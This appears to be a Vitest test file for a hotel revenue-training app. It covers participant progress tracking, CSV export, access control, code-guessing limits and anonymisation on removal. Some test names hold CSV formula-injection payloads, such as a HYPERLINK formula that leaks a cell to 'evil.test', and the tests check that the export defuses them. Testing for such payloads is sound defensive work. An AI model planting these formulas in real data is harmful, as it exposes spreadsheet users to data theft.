/**
 * Each participant's progress across sessions (issue 36, item 3), over the
 * real app: one person by e-mail in any case within a host's sessions, shares
 * of the optimum and the expected optimum, the CSV, removal at a
 * participant's request, and no way into another host's participants.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { normalisePersonalCode, type HostParticipantProgress, type ProgressEntry } from '@front-desk-rm/engine/domain';
import { hostProgress } from '../host-progress.js';
import { progressCsv } from '../progress-csv.js';
import { DEMO_GAME_CODE } from '../seed.js';
import { startHarness, type Harness } from '../testing/harness.js';

let h: Harness;
let host: string;
let hostUserId: string;
let other: string;
let demo: string;
/** Priya, as she signed in to the host's second session, and the second session itself. */
let priya: { token: string; memberId: string; teamId: string | null };
let second: { id: string; gameCode: string; name: string };
/** Priya again, in the other host's session. */
let priyaElsewhere: { token: string };
let arjun: { token: string };

const PRIYA = 'priya.nair@demo.frontdeskrm.test';
const ARJUN = 'arjun.mehta@demo.frontdeskrm.test';
const ZOE = 'zoe@hotel.test';

const weekData = (name: string, demandModel?: 'forecast') => ({
  name,
  hotelName: 'Lakeview Indore',
  totalRooms: '20',
  baseADR: '4000',
  maxParticipants: '10',
  autoAssignTeams: true,
  teamSize: '1',
  rates: { Deluxe: 4000 },
  occupancy: { Sun: '40', Mon: '50', Tue: '50', Wed: '60', Thu: '100', Fri: '100', Sat: '100' },
  banquet: [],
  ...(demandModel ? { demandModel } : {}),
});
const group = {
  description: 'Conference group',
  reservationName: 'Conference Group',
  roomNights: 2,
  rateType: ['deluxe'],
  checkInDay: 'Monday',
  noOfRoom: 5,
  type: 'RoomOnly',
  noOfBanquet: '',
  totalRate: 36000,
};

async function ok(r: Awaited<ReturnType<Harness['call']>>, status = 200) {
  expect(r.status, JSON.stringify(r.json)).toBe(status);
  return r.json.data;
}

/**
 * A week of one group request, played to the end: each player joins with
 * addMember (the e-mail as they typed it) and decides the group. Answers the
 * session and the players' sign-ins.
 */
async function playWeek(token: string, name: string, players: { name: string; email: string; decision: 'acc' | 'dec' }[], demandModel?: 'forecast') {
  const session = (await ok(await h.call('POST', '/api/session/createSession', { token, body: { sessionData: weekData(name, demandModel) } }), 201))
    .session as {
    id: string;
    gameCode: string;
    name: string;
  };
  const request = (await ok(await h.call('POST', '/api/session/addScenario', { token, body: { ...group, sessionId: session.id } }), 201)).scenario
    ._id as string;
  const joined = [];
  for (const p of players) {
    await ok(
      await h.call('POST', '/api/user/addMember', { body: { name: p.name, email: p.email, phone: '+91 98765 43210', sessionCode: session.gameCode } }),
      201,
    );
    joined.push(await h.joinAs(p.email.trim().toLowerCase(), session.gameCode));
  }
  await ok(await h.call('PATCH', `/api/session/updateSession/${session.id}`, { token, body: { status: 'live' } }));
  for (const [i, p] of players.entries())
    await ok(await h.call('POST', `/api/session/getScenario/${session.id}?scenarioId=${request}`, { token: joined[i]!.token, body: { type: p.decision } }));
  await ok(await h.call('PATCH', `/api/session/updateSession/${session.id}`, { token, body: { status: 'ended' } }));
  return { session, joined };
}

/** Every change the host may pull after `since`, and the cursor after them. */
async function pulledSince(since: string) {
  const changes: { table: string; row?: { name?: string } }[] = [];
  let cursor = since;
  for (;;) {
    const page = (await ok(await h.call('GET', `/api/sync/pull?since=${cursor}`, { token: host }))) as {
      cursor: string;
      hasMore: boolean;
      changes: typeof changes;
    };
    changes.push(...page.changes);
    cursor = page.cursor;
    if (!page.hasMore) return { cursor, changes };
  }
}

const progressOf = async (token: string) =>
  (await ok(await h.call('GET', '/api/progress', { token }))) as { participants: HostParticipantProgress[]; working: number };
const person = (progress: { participants: HostParticipantProgress[] }, email: string) => progress.participants.find((p) => p.email === email);
/** The participant's own history, with a personal code or without. */
const mineWith = (token: string, code?: string) =>
  h.call('GET', `/api/progress/mine${code === undefined ? '' : `?code=${encodeURIComponent(code)}`}`, { token });

beforeAll(async () => {
  h = await startHarness();
  host = await h.admin();
  hostUserId = (await h.call('POST', '/api/user/login', { body: { email: 'admin@frontdeskrm.test', password: 'admin-pass-123' } })).json.data.userId;
  other = await h.otherAdmin();
  demo = h.demoSessionId();
  // The demo is live: Priya's Team 1 takes the first request.
  const captain = await h.captain(0);
  const deck = (await ok(await h.call('GET', `/api/session/getSessionDetails/${demo}`, { token: host }))).scenario as { _id: string }[];
  await ok(await h.call('POST', `/api/session/getScenario/${demo}?scenarioId=${deck[0]!._id}`, { token: captain.token, body: { type: 'acc' } }));
  arjun = await h.member(0, 1);
  // A week later she plays the host's forecast workshop, typing her e-mail in capitals, under a shorter name; then Play Again keeps the round.
  const played = await playWeek(
    host,
    'Forecast workshop',
    [
      { name: 'Priya N.', email: '  PRIYA.Nair@Demo.FrontDeskRM.test ', decision: 'acc' },
      { name: '=HYPERLINK("http://evil.test","Zoe")', email: 'zoe@hotel.test', decision: 'dec' },
    ],
    'forecast',
  );
  second = played.session;
  priya = played.joined[0]!;
  await ok(await h.call('PATCH', `/api/session/updateSession/${second.id}`, { token: host, body: { status: 'rst' } }));
  // The other host's session has a Priya of its own, by the same e-mail.
  priyaElsewhere = (await playWeek(other, "Other host's week", [{ name: 'Priya Elsewhere', email: PRIYA, decision: 'acc' }])).joined[0]!;
  // The best weeks worked out, as the debrief would have, so the answers below need wait for no solve.
  await ok(await h.call('GET', `/api/session/getOptimum/${demo}`, { token: host }));
  await ok(await h.call('GET', `/api/session/getOptimum/${second.id}?round=1`, { token: host }));
});
afterAll(() => h.close());

describe('GET /api/progress', () => {
  it('makes one person of an e-mail in any case across the host’s sessions, oldest round first, a kept round an entry of its own', async () => {
    const progress = await progressOf(host);
    expect(progress.working).toBe(0);
    const p = person(progress, PRIYA)!;
    expect(p.name).toBe('Priya N.');
    expect(p.entries.map((e) => [e.sessionName, e.round, e.teamName, e.live])).toEqual([
      ['Demo Grand Hotel', 1, 'Team 1', true],
      ['Forecast workshop', 1, expect.any(String), false],
    ]);
    expect(p.entries[0]!.playedAt <= p.entries[1]!.playedAt).toBe(true);
    // Every demo player who is in a team, and the workshop's two, once each; nobody of the other host's.
    expect(progress.participants).toHaveLength(9);
    expect(progress.participants.flatMap((x) => x.entries).some((e) => e.sessionName === "Other host's week")).toBe(false);
  });

  it('sets each revenue beside the optimum and the expected optimum, as the results and the debrief have them', async () => {
    const p = person(await progressOf(host), PRIYA)!;
    const demoBoard = (await ok(await h.call('GET', `/api/session/getResult/${demo}`, { token: host }))).result as { name: string; revenue: number }[];
    const demoBest = (await ok(await h.call('GET', `/api/session/getOptimum/${demo}`, { token: host }))).optimum as { revenue: number; expected?: unknown };
    const [live, kept] = p.entries as [ProgressEntry, ProgressEntry];
    expect(live.revenue).toBe(demoBoard.find((r) => r.name === 'Team 1')!.revenue);
    expect(live.revenue).toBeGreaterThan(0);
    expect(live).toMatchObject({ optimum: demoBest.revenue, optimumState: 'known', expectedOptimum: null, expectedShare: null });
    expect(live.share).toBeCloseTo((live.revenue / demoBest.revenue) * 100, 9);
    // The workshop's round 1, kept by Play Again, under the forecast: a hindsight and an expected optimum.
    const best = (await ok(await h.call('GET', `/api/session/getOptimum/${second.id}?round=1`, { token: host }))).optimum as {
      revenue: number;
      expected: { revenue: number };
    };
    expect(kept).toMatchObject({ optimum: best.revenue, expectedOptimum: best.expected.revenue, optimumState: 'known' });
    expect(kept.share).toBeCloseTo((kept.revenue / best.revenue) * 100, 9);
    expect(kept.expectedShare).toBeCloseTo((kept.revenue / best.expected.revenue) * 100, 9);
    expect(kept.share!).toBeLessThanOrEqual(100);
  });

  it('tells a best week still being solved as being worked out, and one that cannot be as unavailable, never a failure', async () => {
    const never = { get: () => new Promise<never>(() => {}), getRound: () => new Promise<never>(() => {}), getWeek: () => new Promise<never>(() => {}) };
    const waiting = await hostProgress({ game: h.store.game, optima: never, waitMs: 20 }, hostUserId);
    expect(waiting.working).toBe(2);
    expect(waiting.participants[0]!.entries[0]).toMatchObject({ optimum: null, share: null, optimumState: 'working' });
    const broken = {
      get: () => Promise.reject(new Error('solver gone')),
      getRound: () => Promise.reject(new Error('solver gone')),
      getWeek: () => Promise.reject(new Error('solver gone')),
    };
    const failed = await hostProgress({ game: h.store.game, optima: broken, waitMs: 20 }, hostUserId);
    expect(failed.working).toBe(0);
    expect(failed.participants[0]!.entries[0]).toMatchObject({ optimum: null, optimumState: 'unavailable' });
  });

  it("shows another host only their own sessions' participants", async () => {
    const progress = await progressOf(other);
    expect(progress.participants.map((p) => [p.name, p.email, p.entries.map((e) => e.sessionName)])).toEqual([
      ['Priya Elsewhere', PRIYA, ["Other host's week"]],
    ]);
  });
});

describe('GET /api/progress/csv', () => {
  it('is a CSV attachment with one row per participant per round, formulas defused', async () => {
    const r = await h.call('GET', '/api/progress/csv', { token: host });
    expect(r.status).toBe(200);
    expect(r.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('Content-Disposition')).toMatch(/^attachment; filename="front-desk-rm-progress-\d{4}-\d{2}-\d{2}\.csv"$/);
    // The file opens with a byte-order mark, for Excel; a reader of the text (here, and a browser) takes it off.
    expect(progressCsv([]).startsWith('\ufeff')).toBe(true);
    const parsed = Papa.parse<Record<string, string>>(r.json.message.replace(/^\ufeff/, '').trim(), { header: true });
    expect(parsed.meta.fields).toEqual([
      'Name',
      'E-mail',
      'Personal code',
      'Session',
      'Round',
      'Played at',
      'Team',
      'Revenue (INR)',
      'Optimum (INR)',
      'Share of optimum (%)',
      'Expected optimum (INR)',
      'Share of expected optimum (%)',
    ]);
    const json = person(await progressOf(host), PRIYA)!;
    const rows = parsed.data.filter((row) => row['E-mail'] === PRIYA);
    expect(rows.map((row) => [row.Name, row['Personal code'], row.Session, row.Round, row.Team])).toEqual(
      json.entries.map((e) => ['Priya N.', json.personalCode, e.sessionName, String(e.round), e.teamName]),
    );
    const kept = json.entries[1]!;
    expect(rows[1]).toMatchObject({
      'Played at': kept.playedAt,
      'Revenue (INR)': String(Math.round(kept.revenue)),
      'Optimum (INR)': String(Math.round(kept.optimum!)),
      'Share of optimum (%)': String(Math.round(kept.share! * 10) / 10),
      'Expected optimum (INR)': String(Math.round(kept.expectedOptimum!)),
    });
    expect(rows[0]!['Expected optimum (INR)']).toBe('');
    expect(parsed.data).toHaveLength(10);
    // A name that opens with = reaches a spreadsheet as text, not as a formula.
    expect(parsed.data.find((row) => row['E-mail'] === 'zoe@hotel.test')!.Name).toBe('\'=HYPERLINK("http://evil.test","Zoe")');
  });

  it('defuses a formula that runs over two lines, as a name stored before names were kept to one line would', async () => {
    const json = person(await progressOf(host), PRIYA)!;
    const twoLines = '=HYPERLINK("http://evil.test/?leak="&B2,"Open")\nx';
    const csv = progressCsv([{ ...json, name: twoLines, email: ' @evil.test' }]);
    const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\ufeff/, '').trim(), { header: true });
    expect(parsed.data[0]!.Name).toBe(`'${twoLines}`);
    expect(parsed.data[0]!['E-mail']).toBe("' @evil.test");
  });

  it('keeps a name on one line at entry: a two-line name joins as one line', async () => {
    const joined = await h.call('POST', '/api/user/addMember', {
      body: {
        name: '=HYPERLINK("http://evil.test/?leak="&B2,"Open")\nx',
        email: 'two.lines@hotel.test',
        phone: '+91 98470 12345',
        sessionCode: DEMO_GAME_CODE,
      },
    });
    expect(joined.status, joined.json.message).toBe(201);
    expect(joined.json.data.user.name).toBe('=HYPERLINK("http://evil.test/?leak="&B2,"Open") x');
  });
});

describe('GET /api/progress/mine', () => {
  it("answers a participant with their personal code their own rounds in the host's sessions by their e-mail, the live round's best week hidden", async () => {
    const code = person(await progressOf(host), PRIYA)!.personalCode;
    expect(code).toMatch(/^[0-9A-HJKMNP-TV-Z]{4}-[0-9A-HJKMNP-TV-Z]{4}$/);
    const mine = await ok(await mineWith(priya.token, code));
    expect(mine.name).toBe('Priya N.');
    expect(mine.scope).toBe('all');
    expect(mine.entries.map((e: ProgressEntry) => [e.sessionName, e.optimumState])).toEqual([
      ['Demo Grand Hotel', 'hidden'],
      ['Forecast workshop', 'known'],
    ]);
    expect(mine.entries[0]).toMatchObject({ optimum: null, share: null });
    // The code is read as typed by hand: lower case, spaces, no dash, O for 0 and I or L for 1.
    const typed = code.toLowerCase().replace('-', ' ').replace(/0/g, 'o').replace(/1/g, 'l');
    expect(normalisePersonalCode(typed)).toBe(code.replace('-', ''));
    // From the demo's own sign-in, the same code gives the same history: it is the person's, in every session of the host's.
    expect((await ok(await mineWith((await h.captain(0)).token, typed))).entries).toEqual(mine.entries);
    // In the other host's session, only that host's round, and only with the code that host gives her.
    const theirs = person(await progressOf(other), PRIYA)!.personalCode;
    expect(theirs).not.toBe(code);
    expect((await ok(await mineWith(priyaElsewhere.token, theirs))).entries.map((e: ProgressEntry) => e.sessionName)).toEqual(["Other host's week"]);
    expect(await mineWith(priyaElsewhere.token, code)).toMatchObject({ status: 403 });
  });

  it('without the personal code answers the rounds of the session signed in to, and no other', async () => {
    const mine = await ok(await mineWith(priya.token));
    expect(mine.scope).toBe('session');
    expect(mine.entries.map((e: ProgressEntry) => e.sessionName)).toEqual(['Forecast workshop']);
    expect((await ok(await mineWith((await h.captain(0)).token))).entries.map((e: ProgressEntry) => e.sessionName)).toEqual(['Demo Grand Hotel']);
  });

  it("keeps a person's history from someone who knows only their e-mail and a game code", async () => {
    // The attacker joins a session of the host's that Zoe is not in, as Zoe, and asks for her history.
    const open = (await ok(await h.call('POST', '/api/session/createSession', { token: host, body: { sessionData: weekData('Open day') } }), 201)).session as {
      id: string;
      gameCode: string;
    };
    await ok(await h.call('POST', '/api/user/addMember', { body: { name: 'Zoe', email: ZOE, phone: '+91 98765 43210', sessionCode: open.gameCode } }), 201);
    const impostor = await h.joinAs(ZOE, open.gameCode);
    const plain = await mineWith(impostor.token);
    expect(await ok(plain)).toMatchObject({ scope: 'session', entries: [] });
    expect(JSON.stringify(plain.json)).not.toMatch(/Forecast workshop/);
    // A guessed code, a code of someone else's and a code of the wrong shape: refused in words, nothing shown.
    const priyas = person(await progressOf(host), PRIYA)!.personalCode;
    for (const guess of ['K7QM-2XRP', priyas]) {
      const r = await mineWith(impostor.token, guess);
      expect(r).toMatchObject({
        status: 403,
        json: { success: false, message: 'That personal code is not yours: ask your trainer for the code beside your name on their Progress screen' },
      });
      expect(JSON.stringify(r.json)).not.toMatch(/Forecast workshop/);
    }
    expect(await mineWith(impostor.token, 'ABC')).toMatchObject({
      status: 400,
      json: { message: expect.stringContaining('A personal code is 8 letters and digits') },
    });
  });

  it('counts the tries of a code per address, as a login: a guesser is stopped, the page without a code still answers', async () => {
    const limited = await startHarness({ limits: { loginPerWindow: 3 } });
    try {
      const { token } = await limited.captain(0);
      const statuses: number[] = [];
      for (const guess of ['AAAA-AAAA', 'AAAA-AAAB', 'AAAA-AAAC', 'AAAA-AAAD'])
        statuses.push((await limited.call('GET', `/api/progress/mine?code=${guess}`, { token })).status);
      expect(statuses).toEqual([403, 403, 403, 429]);
      expect((await limited.call('GET', '/api/progress/mine', { token })).status).toBe(200);
    } finally {
      await limited.close();
    }
  });

  it("never shows anyone else's history", async () => {
    const code = person(await progressOf(host), ARJUN)!.personalCode;
    const r = await mineWith(arjun.token, code);
    const mine = await ok(r);
    expect(mine.entries).toHaveLength(1);
    expect(JSON.stringify(r.json)).not.toMatch(/priya|Forecast workshop/i);
  });
});

describe('who may ask', () => {
  it('refuses a participant holding a valid token every host call, in words, and changes nothing', async () => {
    const before = await progressOf(host);
    for (const [method, path, body] of [
      ['GET', '/api/progress', undefined],
      ['GET', '/api/progress/csv', undefined],
      ['POST', '/api/progress/remove', { email: ARJUN }],
    ] as const) {
      const r = await h.call(method, path, { token: priya.token, ...(body ? { body } : {}) });
      expect({ path, status: r.status, success: r.json.success, message: r.json.message }).toEqual({
        path,
        status: 403,
        success: false,
        message: 'You do not have access to this',
      });
    }
    expect(await progressOf(host)).toEqual(before);
  });

  it('refuses no token and a token that is not ours with 401, and a host asking for a participant’s own history with 403', async () => {
    expect(await h.call('GET', '/api/progress')).toMatchObject({ status: 401, json: { success: false, message: 'Please login first' } });
    expect(await h.call('GET', '/api/progress/mine', { token: 'x'.repeat(43) })).toMatchObject({
      status: 401,
      json: { message: 'Session expired. Please login again.' },
    });
    expect(await h.call('GET', '/api/progress/mine', { token: host })).toMatchObject({ status: 403, json: { message: 'You do not have access to this' } });
  });

  it('lets another host remove none of this host’s participants: 404 in words, and everything stays', async () => {
    const before = await progressOf(host);
    const r = await h.call('POST', '/api/progress/remove', { token: other, body: { email: ARJUN } });
    expect({ status: r.status, message: r.json.message }).toEqual({ status: 404, message: 'No participant with this e-mail is in any of your sessions' });
    // Their own Priya goes; this host's Priya, the same e-mail, stays.
    expect(await ok(await h.call('POST', '/api/progress/remove', { token: other, body: { email: PRIYA } }))).toEqual({ sessionsChanged: 1, membersChanged: 1 });
    expect(await progressOf(host)).toEqual(before);
    expect((await progressOf(other)).participants).toEqual([]);
  });

  it('answers a bad body with a 400 that names the field', async () => {
    const cases: [unknown, string][] = [
      [{}, 'email: email is required'],
      [{ email: 42 }, 'email: email is required'],
      [{ email: 'not an address' }, 'email: email must be an e-mail address'],
      [{ email: `${'a'.repeat(320)}@x.test` }, 'email: email is too long'],
    ];
    for (const [body, message] of cases) {
      const r = await h.call('POST', '/api/progress/remove', { token: host, body });
      expect({ status: r.status, message: r.json.message }).toEqual({ status: 400, message });
    }
    const raw = await h.call('POST', '/api/progress/remove', { token: host, raw: '{"email":', headers: { 'Content-Type': 'application/json' } });
    expect({ status: raw.status, message: raw.json.message }).toEqual({ status: 400, message: 'Request body must be valid JSON' });
  });
});

describe('POST /api/progress/remove', () => {
  it("anonymises the participant in every session of the host's, kept rounds too, synced to devices, and they leave the view and their own history", async () => {
    const head = (await pulledSince('0')).cursor;
    const r = await h.call('POST', '/api/progress/remove', { token: host, body: { email: ' Priya.Nair@DEMO.frontdeskrm.test ' } });
    expect(r.json).toEqual({ success: true, message: 'History removed from 2 sessions', data: { sessionsChanged: 2, membersChanged: 2 } });
    const progress = await progressOf(host);
    expect(person(progress, PRIYA)).toBeUndefined();
    expect(progress.participants).toHaveLength(8);
    expect(JSON.stringify(progress)).not.toMatch(/priya/i);

    const details = (await ok(await h.call('GET', `/api/session/getSessionDetails/${second.id}`, { token: host }))).session;
    expect(details.participants.find((p: { id: string }) => p.id === priya.memberId)).toMatchObject({ name: 'Removed participant', phone: '' });
    expect(details.participants.find((p: { id: string }) => p.id === priya.memberId).email).not.toMatch(/@/);
    expect(details.pastRounds[0].members.find((m: { id: string }) => m.id === priya.memberId).name).toBe('Removed participant');
    // The host's devices pull the anonymised rows like any other change.
    const pulled = (await pulledSince(head)).changes;
    expect(pulled.filter((c) => c.table === 'members' && c.row?.name === 'Removed participant')).toHaveLength(2);

    const mine = await ok(await mineWith(priya.token));
    expect(mine).toEqual({ name: 'Removed participant', scope: 'session', entries: [], working: 0 });

    // Nothing left to find in the host's sessions, as someone holding the host's token or a copy of the database would
    // look: no change a device pulls from zero, no change-log or member row, and no rate-limit key (e-mails are hashed
    // there). Another host's session keeps its own Priya, as it should.
    const everything = JSON.stringify((await pulledSince('0')).changes);
    expect(everything).not.toMatch(/priya/i);
    const ours = [h.demoSessionId(), second.id];
    for (const [table, column] of [
      ['change_log', 'session_id'],
      ['members', 'session_id'],
    ] as const)
      expect(JSON.stringify(await h.rows(`SELECT * FROM ${table} WHERE ${column} IN ($1, $2)`, ...ours)), table).not.toMatch(/priya/i);
    expect(JSON.stringify(await h.rows('SELECT * FROM rate_limits'))).not.toMatch(/@|priya/i);
    // Removed once, there is no one left by that e-mail to remove.
    expect((await h.call('POST', '/api/progress/remove', { token: host, body: { email: PRIYA } })).status).toBe(404);
    // The demo's game code still takes her e-mail as someone new.
    expect((await h.joinAs(PRIYA, DEMO_GAME_CODE)).memberId).not.toBe(priya.memberId);
  });
});
